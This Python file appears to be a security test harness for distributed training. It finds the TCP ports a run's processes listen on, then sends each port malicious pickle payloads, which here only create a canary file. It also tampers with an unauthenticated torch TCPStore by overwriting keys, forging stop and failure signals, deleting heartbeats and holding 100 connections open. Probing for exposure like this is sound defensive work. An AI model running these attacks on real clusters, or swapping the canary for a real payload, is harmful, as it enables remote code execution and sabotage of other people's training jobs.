"""Which ports a run's processes listen at, and what strangers put there."""

import base64
import contextlib
import ipaddress
import pickle
import socket
import sys
import time
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

_LISTENING = "0A"
_SECONDS = 1.5


@dataclass(frozen=True, order=True)
class Port:
    """A TCP socket that listens."""

    address: str
    number: int

    @property
    def is_of_this_machine_alone(self) -> bool:
        return ipaddress.ip_address(self.address).is_loopback


def ports_of(pids: Iterable[int]) -> set[Port]:
    """Where these processes listen, each in its own network namespace."""
    found = set()
    for pid in pids:
        with contextlib.suppress(OSError):  # it has ended
            sockets = {str(file.readlink()) for file in Path(f"/proc/{pid}/fd").iterdir()}
            for name in ("tcp", "tcp6"):
                rows = map(str.split, Path(f"/proc/{pid}/net/{name}").read_text().splitlines()[1:])
                found |= {_port(row[1]) for row in rows if row[3] == _LISTENING and f"socket:[{row[9]}]" in sockets}
    return found


def _port(text: str) -> Port:
    """From the kernel's notation: 32-bit words in this machine's order, in hexadecimal."""
    address, number = text.split(":")
    content = b"".join(bytes.fromhex(address[at : at + 8])[::-1] for at in range(0, len(address), 8))
    return Port(str(ipaddress.ip_address(content)), int(number, 16))


class Canary:
    """Makes a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return Path.touch, (self.path,)  # type: ignore[return-value]


def attack(port: Port, canary: Path) -> list[str]:
    """Send a port what would run code if anything there unpickled it, and what it cannot read; which of that was sent.

    Args:
        port: that is reached from here.
        canary: the file that the code would make.
    """
    content = pickle.dumps(Canary(canary))
    sent = []
    messages = {
        "a pickle": content,
        "a pickle after its length": len(content).to_bytes(8, "little") + content,
        "a pickle after gloo's number of a pair": (0).to_bytes(8, "little") + content,
        "a line": b"GET / HTTP/1.1\r\n\r\n",
        "nothing": b"",
    }
    for what, message in messages.items():
        with contextlib.suppress(OSError), socket.create_connection((port.address, port.number), _SECONDS) as one:
            one.sendall(message)
            sent.append(what)
    return sent


def rob(port: Port, canary: Path, names: Sequence[str]) -> list[str]:
    """As who reaches a TCP store of torch, which lets everybody in: what was done there.

    Args:
        port: the store's.
        canary: the file that a pickle would make.
        names: that a stranger knows: the run's ids.
    """
    from torch.distributed import TCPStore  # type: ignore[attr-defined]

    content = pickle.dumps(Canary(canary))
    store: Any = TCPStore(port.address, port.number, is_master=False, timeout=timedelta(seconds=_SECONDS))
    there = store.list_keys() if hasattr(store, "list_keys") else []
    done = []
    for value in (content, base64.b64encode(content)):
        for key in [*there, *(f"torch.rendezvous.{name}" for name in names)]:
            store.set(key, value)
            done.append(f"a pickle at {key}")
    for folder in {key.rpartition("/here/")[0] for key in there if "/here/" in key}:
        for key, text in (("failed", "node 0: a stranger says so"), ("stop", "1"), ("stop", "0" * 64)):
            store.set(f"{folder}/{key}", text)
            done.append(f"{text!r} at {folder}/{key}")
        for rank in (0, 1):
            store.set(f"{folder}/ended/{rank}", "1")
            store.delete_key(f"{folder}/beat/{rank}")
            done.append(f"{folder}/beat/{rank} deleted, and the end of node {rank} forged")
    held = [socket.create_connection((port.address, port.number), _SECONDS) for _ in range(100)]
    time.sleep(_SECONDS)
    for one in held:
        one.close()
    return [*done, f"{len(held)} connections held open"]


if __name__ == "__main__":
    place, known, *addresses = sys.argv[1:]
    for text in addresses:
        address, _, number = text.partition("=")
        where = Port(address, int(number))
        print(where, attack(where, Path(place)), flush=True)
    print(rob(where, Path(place), known.split(",")), flush=True)
